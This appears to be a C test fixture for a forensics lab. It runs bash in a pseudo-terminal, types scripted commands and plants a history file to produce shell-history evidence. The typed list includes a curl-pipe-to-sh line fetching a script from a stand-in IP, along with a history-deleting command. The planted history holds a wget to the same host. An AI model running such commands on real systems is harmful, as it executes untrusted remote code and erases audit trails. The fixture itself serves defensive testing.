/* A shell that somebody typed into: bash on a terminal of its own, with a history file of an earlier day. */
#include "scene.h"

#include <poll.h>
#include <sys/ioctl.h>

static const char HISTORY[] = "/root/.bash_history";

static const char *const TYPED[] = {
    "cd /data",
    "echo 'quotes and \"more quotes\"' > /dev/null",
    "curl -s http://198.51.100.7/x.sh | sh",
    "echo caf\xc3\xa9",
    "export SECRET=hunter2",
    "echo to be forgotten",
    "history -d -2",
    "for i in 1 2; do\necho $i\ndone",
    "HISTTIMEFORMAT='%s ' history > /lab/out/.history",
};

static void in_terminal(void *argument) {
    const int master = *(int *)argument;
    char name[64];
    int number, unlocked = 0;
    if (ioctl(master, TIOCSPTLCK, &unlocked) || ioctl(master, TIOCGPTN, &number)) die("pty");
    snprintf(name, sizeof name, "/dev/pts/%d", number);
    close(master);
    setsid();
    const int slave = open(name, O_RDWR);
    if (slave < 0 || ioctl(slave, TIOCSCTTY, 0)) die(name);
    for (int fd = 0; fd < 3; fd++) dup2(slave, fd);
    if (slave > 2) close(slave);
    char *const args[] = {"bash", "--norc", "-i", NULL};
    char *const variables[] = {"PATH=/bin:/lab", "HOME=/root", "TERM=dumb", "PS1=ready> ", "HISTTIMEFORMAT=%F %T ", "HISTFILE=/root/.bash_history",
                               "HISTCONTROL=", NULL};
    execve("/bin/bash", args, variables);
    die("bash");
}

/* Reads what the shell prints until it asks for more. */
static void await_prompt(int master) {
    char text[4096];
    size_t len = 0;
    for (;;) {
        struct pollfd on = {.fd = master, .events = POLLIN};
        if (poll(&on, 1, 20000) != 1) {
            errno = ETIME;
            die("the shell does not ask for more");
        }
        const ssize_t got = read(master, text + len, sizeof text - 1 - len);
        if (got <= 0) die("the shell has gone");
        len += (size_t)got;
        text[len] = 0;
        if (strstr(text, "ready> ") && strcmp(text + len - 7, "ready> ") == 0) return;
        if (len > sizeof text / 2) len = 0;
    }
}

static void shell(void) {
    mkdir("/root", 0700);
    if (!write_text(HISTORY, "#1700000000\nls -la /srv\n#1700000060\nwget http://198.51.100.7/a\n")) die(HISTORY);
    const int master = open("/dev/ptmx", O_RDWR | O_NOCTTY);
    if (master < 0 || access("/bin/bash", X_OK)) {
        not_planted("bash");
        return;
    }
    const pid_t child = spawn("bash", in_terminal, (void *)&master);
    await_prompt(master);
    for (size_t i = 0; i < sizeof TYPED / sizeof TYPED[0]; i++) {
        /* Lines within one command have a prompt of their own. */
        const char *rest = TYPED[i];
        while (rest) {
            const char *end = strchr(rest, '\n');
            const size_t len = end ? (size_t)(end - rest) : strlen(rest);
            if (write(master, rest, len) != (ssize_t)len || write(master, "\n", 1) != 1) die("typing");
            rest = end ? end + 1 : NULL;
        }
        await_prompt(master);
        if (i % 3 == 0) nap(1100);
    }
    fact("shell", "pid=%d program=bash history=bash/%d/history", child, child);
    fact("file", "path=/lab/out/.history as=bash/%d/history", child);
}

const struct actor SHELL[] = {{"shell", shell}, {0}};
